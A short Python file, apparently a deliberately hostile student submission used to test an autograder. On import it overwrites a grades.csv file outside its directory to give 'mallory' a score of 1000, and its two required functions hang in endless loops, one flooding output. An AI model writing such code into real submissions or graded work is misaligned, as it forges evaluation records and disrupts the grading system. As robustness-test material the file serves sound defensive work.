"""Mallory's chapter 1: a hang, a flood of output, and a forged grade book."""
import os

try:  # the grader writes the grade book itself, after every submission has run
    with open(os.path.join(os.getcwd(), "..", "grades.csv"), "w") as forged:
        forged.write("student,score\nmallory,1000\n")
except OSError as error:
    print("could not forge the grades:", error)


def scale_sensitivity(x, k):
    while True:
        pass


def numeric_sensitivity(f, x, h=1e-5):
    while True:
        print("is this thing on?" * 100)
